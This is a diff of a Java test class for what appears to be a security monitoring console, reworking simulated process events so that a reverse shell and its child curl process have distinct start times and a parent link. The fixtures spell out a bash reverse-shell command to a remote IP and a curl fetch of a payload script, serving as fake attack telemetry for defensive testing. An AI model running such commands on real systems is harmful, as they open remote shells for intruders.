@@ -40,12 +40,17 @@ class ConsoleTest {
                 InstantSource.system()).start();
         base = server.url();
         Instant now = Instant.now();
-        ProcessInfo shell = process("e-shell", 5100, "/usr/bin/bash", List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
-        ProcessInfo curl = process("e-curl", 5200, "/usr/bin/curl", List.of("curl", "-s", "http://127.0.0.1:8080/payload.sh"));
+        // curl is the shell's child, started seconds later: the graph's time slider has a start at which only the
+        // shell existed.
+        Instant shellStart = now.minusSeconds(20);
+        Instant curlStart = now.minusSeconds(10);
+        ProcessInfo shell = process("e-shell", 5100, shellStart, SSHD, "/usr/bin/bash", List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"));
+        ProcessInfo curl = process("e-curl", 5200, curlStart,
+                new ProcessInfo.ParentRef("e-shell", 5100, "/usr/bin/bash", List.of("bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")), "/usr/bin/curl", List.of("curl", "-s", "http://127.0.0.1:8080/payload.sh"));
         List<Event> events = new ArrayList<>();
-        events.add(new Event("agent-console", 1, now, "web-1", List.of(), new ProcessStart(shell, false)));
-        events.add(new Event("agent-console", 2, now.plusMillis(3), "web-1", List.of(), new ProcessStart(curl, false)));
-        events.add(new Event("agent-console", 3, now.plusMillis(5), "web-1", List.of(),
+        events.add(new Event("agent-console", 1, shellStart, "web-1", List.of(), new ProcessStart(shell, false)));
+        events.add(new Event("agent-console", 2, curlStart, "web-1", List.of(), new ProcessStart(curl, false)));
+        events.add(new Event("agent-console", 3, now, "web-1", List.of(),
                 new NetworkActivity(NetworkActivity.Action.CONNECT, "tcp", null, 0, "127.0.0.1", 8080, true, curl)));
         server.ingest().deliver(events);
         String[] admin = java.nio.file.Files.readString(server.credentialsFile()).trim().split(":", 2);
@@ -88,8 +93,10 @@ class ConsoleTest {
         return "'" + text.replace("\\", "\\\\").replace("'", "\\'") + "'";
     }
 
-    private static ProcessInfo process(String entity, int pid, String executable, List<String> args) {
-        return new ProcessInfo(entity, pid, Instant.now(), new ProcessInfo.ParentRef("e-sshd", 900, "/usr/sbin/sshd", List.of("sshd")),
+    private static final ProcessInfo.ParentRef SSHD = new ProcessInfo.ParentRef("e-sshd", 900, "/usr/sbin/sshd", List.of("sshd"));
+
+    private static ProcessInfo process(String entity, int pid, Instant start, ProcessInfo.ParentRef parent, String executable, List<String> args) {
+        return new ProcessInfo(entity, pid, start, parent,
                 executable, args, "/root", null, new ProcessInfo.Credentials(0, "root", 0, "root", 0, 0, 0), 1, null, null);
     }
 
